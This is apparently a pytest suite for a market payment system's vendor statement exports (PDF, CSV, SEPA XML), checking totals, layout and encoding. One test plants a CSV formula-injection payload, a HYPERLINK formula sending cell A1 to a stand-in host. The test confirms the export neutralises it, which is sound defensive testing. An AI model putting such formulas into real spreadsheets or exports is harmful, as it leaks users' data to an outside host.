"""Vendor statements, PDF next to CSV: read back with pypdf, every line and the total checked."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest
from pypdf import PdfReader
from sqlalchemy import Engine
from sqlmodel import Session

from caisse.config import Settings
from tests.backend.factories import T0
from tests.backend.settlement.test_settlement import Market, _settle


def _pdf_text(path: Path) -> list[str]:
    return [page.extract_text() for page in PdfReader(path).pages]


def test_the_pdf_statement_names_the_vendor_the_period_each_transaction_and_the_total(
    session: Session, engine: Engine, rules: Settings
) -> None:
    market = Market(session, rules, vendors=1)
    market.pay(0, 1_250)
    market.pay(0, 5, time=T0 - 86_400)  # the day before, uploaded late: same statement
    market.upload(0, [market.chains[0].void(1)])
    market.pay(0, 4_000)
    result = _settle(engine, rules)
    [page] = _pdf_text(Path(result.output_dir or "") / f"releve-commercant-{market.vendor_ids[0]}.pdf")
    assert "Relevé du règlement 1 du 01/01/2026" in page
    assert "Commerçant : Ferme 0" in page and "IBAN : FR1420041010050500013M02606" in page
    assert "Période : opérations du 31/12/2025 au 01/01/2026" in page
    terminal = market.chains[0].terminal_id
    lines = [re.sub(r"\s+", " ", line).strip() for line in page.splitlines()]
    assert [line for line in lines if re.match(r"\d\d/\d\d/\d{4} ", line)] == [
        f"31/12/2025 09:00:00 {terminal} 2 paiement 0,05",
        f"01/01/2026 09:01:00 {terminal} 1 paiement 12,50",
        f"01/01/2026 09:03:00 {terminal} 3 annulation -12,50",
        f"01/01/2026 09:04:00 {terminal} 4 paiement 40,00",
    ]
    assert "Total 4 opérations 40,05" in lines


def test_a_long_statement_runs_over_pages_and_keeps_every_line(session: Session, engine: Engine, rules: Settings) -> None:
    market = Market(session, rules, vendors=1)
    amounts = [100 + index for index in range(130)]
    market.upload(0, [market.chains[0].pay(market.uid, amount, time=T0 + index) for index, amount in enumerate(amounts)])
    result = _settle(engine, rules)
    pages = _pdf_text(Path(result.output_dir or "") / f"releve-commercant-{market.vendor_ids[0]}.pdf")
    assert len(pages) >= 3
    assert all("Montant (EUR)" in page for page in pages)  # column titles on every page
    cents = [int(found.replace(",", "")) for page in pages for found in re.findall(r"paiement\s+(\d+,\d\d)", page)]
    assert cents == amounts
    assert f"Total 130 opérations {sum(amounts) // 100},{sum(amounts) % 100:02d}" in re.sub(r"\s+", " ", pages[-1])


def test_a_vendor_name_prints_in_french_letters_and_unknown_letters_as_question_marks(
    session: Session, engine: Engine, rules: Settings
) -> None:
    from sqlalchemy import update

    from caisse.models import Vendor

    market = Market(session, rules, vendors=1)
    session.execute(update(Vendor).where(Vendor.id == market.vendor_ids[0]).values(name="Bœuf & Cie à Łódź"))  # type: ignore[arg-type]
    session.commit()
    market.pay(0, 990)
    result = _settle(engine, rules)
    [page] = _pdf_text(Path(result.output_dir or "") / f"releve-commercant-{market.vendor_ids[0]}.pdf")
    assert "Commerçant : Bœuf & Cie à ?ód?" in page


def _rows(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte order mark: Excel shows the accents
    return list(csv.reader(raw.decode("utf-8-sig").splitlines(), delimiter=";"))


def test_the_csv_statement_opens_in_excel_runs_no_formula_and_totals_each_day_and_lists_held_records(
    session: Session, engine: Engine, rules: Settings
) -> None:
    from sqlalchemy import select, update

    from caisse.ingest import review
    from caisse.models import TransactionRecord, Vendor

    market = Market(session, rules, vendors=1)
    hostile = '=HYPERLINK("http://x.test/?"&A1;"cliquez")'
    session.execute(update(Vendor).where(Vendor.id == market.vendor_ids[0]).values(name=hostile))  # type: ignore[arg-type]
    session.commit()
    market.pay(0, 5, time=T0 - 86_400)
    market.pay(0, 1_250)
    market.upload(0, [market.chains[0].void(2)])
    market.pay(0, 700)
    held_id = session.execute(select(TransactionRecord.id).where(TransactionRecord.seq == 4)).scalar_one()
    assert review.hold(session, record_ids=[held_id], reason="+carte signalée @terrain") == 1
    session.commit()
    result = _settle(engine, rules)
    rows = _rows(Path(result.output_dir or "") / f"releve-commercant-{market.vendor_ids[0]}.csv")
    assert rows[0][1] == "'" + hostile  # shown as text, never run
    terminal = str(market.chains[0].terminal_id)
    assert rows[2:8] == [
        ["31/12/2025", "09:00:00", terminal, "1", "paiement", "0,05"],
        ["total du 31/12/2025", "", "", "1", "", "0,05"],
        ["01/01/2026", "09:02:00", terminal, "2", "paiement", "12,50"],
        ["01/01/2026", "09:03:00", terminal, "3", "annulation", "-12,50"],  # an amount keeps its sign
        ["total du 01/01/2026", "", "", "2", "", "0,00"],
        ["total", "", "", "3", "", "0,05"],
    ]
    held = rows[rows.index(["Paiements retenus pour vérification (non payés par ce règlement)"]) + 2:]
    assert held == [["01/01/2026", "09:04:00", terminal, "4", "paiement", "7,00", "'+carte signalée @terrain"]]
    summary = _rows(Path(result.output_dir or "") / "resume.csv")
    assert any(row[:2] == [str(market.vendor_ids[0]), "'" + hostile] for row in summary)
    pages = _pdf_text(Path(result.output_dir or "") / f"releve-commercant-{market.vendor_ids[0]}.pdf")
    text = re.sub(r"\s+", " ", " ".join(pages))
    assert "Total du 01/01/2026 2 opérations 0,00" in text and "Paiements retenus pour vérification" in text
    assert "+carte signalée @terrain" in text


def test_a_long_vendor_name_wraps_inside_the_pdf_page(session: Session, engine: Engine, rules: Settings) -> None:
    from fpdf import FPDF
    from sqlalchemy import update

    from caisse.models import Vendor

    market = Market(session, rules, vendors=1)
    name = "Coopérative maraîchère et fromagère des producteurs associés du Grand Montpellier " + "X" * 110  # 192 of 200
    session.execute(update(Vendor).where(Vendor.id == market.vendor_ids[0]).values(name=name.strip()))  # type: ignore[arg-type]
    session.commit()
    market.pay(0, 990)
    result = _settle(engine, rules)
    [page] = _pdf_text(Path(result.output_dir or "") / f"releve-commercant-{market.vendor_ids[0]}.pdf")
    measure = FPDF()
    measure.set_font("Helvetica", size=10)
    header = [line for line in page.splitlines() if "Coopérative" in line or "XXXX" in line or "Montpellier" in line]
    assert len(header) >= 3  # on several lines ...
    assert all(measure.get_string_width(line) <= 180 for line in header)  # ... each within the 180 mm of text
    assert "".join(line.replace(" ", "") for line in header).startswith("Commerçant:" + name.strip().replace(" ", ""))


def _statement_files(folder: Path) -> dict[str, bytes]:
    """Each statement's bytes, the PDF's creation time and the file id drawn from it set aside."""
    return {path.name: re.sub(rb"/CreationDate \(D:[^)]*\)|/ID \[[^]]*\]", b"", path.read_bytes())
            for path in sorted(folder.glob("releve-commercant-*"))}


def test_statements_written_by_worker_processes_are_the_bytes_fpdf2_writes_line_by_line(
    session: Session, engine: Engine, rules: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A large run renders in worker processes and writes plain PDF lines into the page itself:
    the files must be those of the one-process, pdf.text() path, byte for byte."""
    from sqlalchemy import select, update

    from caisse.ingest import review
    from caisse.models import SettlementRun, TransactionRecord, Vendor
    from caisse.settlement import statements

    market = Market(session, rules, vendors=3)
    session.execute(update(Vendor).where(Vendor.id == market.vendor_ids[1]).values(name="Bœuf (et) \\ Cie"))  # type: ignore[arg-type]
    session.commit()
    for vendor, count in enumerate((130, 5, 2)):  # over a page for the first vendor
        chain = market.chains[vendor]
        market.upload(vendor, [chain.pay(market.uid, 100 + i, time=T0 - 86_400 + 60 * i) for i in range(count)])
    market.upload(0, [market.chains[0].void(1)])
    held_id = session.execute(select(TransactionRecord.id).where(  # type: ignore[call-overload]
        TransactionRecord.terminal_id == market.chains[0].terminal_id, TransactionRecord.seq == 3)).scalar_one()  # type: ignore[arg-type]
    assert review.hold(session, record_ids=[held_id], reason="(carte \\ signalée)\r" + " très longue" * 20) == 1
    session.commit()
    result = _settle(engine, rules)
    run = session.get(SettlementRun, result.run_id)
    assert run is not None
    vendors = [statements.StatementVendor(v, f"Ferme {v}", "FR1420041010050500013M02606") for v in market.vendor_ids]
    for name in ("one", "pool"):
        (tmp_path / name).mkdir()
    monkeypatch.setattr(statements, "_plain_text_applies", lambda pdf: False)  # every line through pdf.text()
    statements.write_statements(session, tmp_path / "one", run=run, vendors=vendors, timezone=rules.settlement_timezone)
    monkeypatch.undo()
    monkeypatch.setattr(statements, "PARALLEL_FROM_RECORDS", 1)
    statements.write_statements(session, tmp_path / "pool", run=run, vendors=vendors, timezone=rules.settlement_timezone)
    one, pool = _statement_files(tmp_path / "one"), _statement_files(tmp_path / "pool")
    assert len(one) == 6 and one.keys() == pool.keys()
    assert [name for name in one if one[name] != pool[name]] == []


def test_a_large_export_writes_its_sepa_file_and_statements_in_worker_processes(
    session: Session, engine: Engine, rules: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A large run's files come from worker processes, the SEPA file beside the statements: it is
    valid against its schema, pays each vendor, and the run keeps its execution date."""
    from caisse.models import SettlementRun
    from caisse.settlement import sepa, statements

    market = Market(session, rules, vendors=2)
    market.pay(0, 1_250)
    market.pay(1, 700)
    monkeypatch.setattr(statements, "PARALLEL_FROM_RECORDS", 1)  # two records: the workers' path
    result = _settle(engine, rules)
    folder = Path(result.output_dir or "")
    transfers = folder / "virements-sepa.xml"
    sepa.xsd(sepa.schema_for_bank(rules)).validate(str(transfers))
    document = transfers.read_text(encoding="utf-8")
    assert ">12.50<" in document and ">7.00<" in document
    run = session.get(SettlementRun, result.run_id)
    assert run is not None and run.execution_date is not None
    assert sorted(path.name for path in folder.glob("releve-commercant-*")) == sorted(
        f"releve-commercant-{vendor}.{suffix}" for vendor in market.vendor_ids for suffix in ("csv", "pdf"))
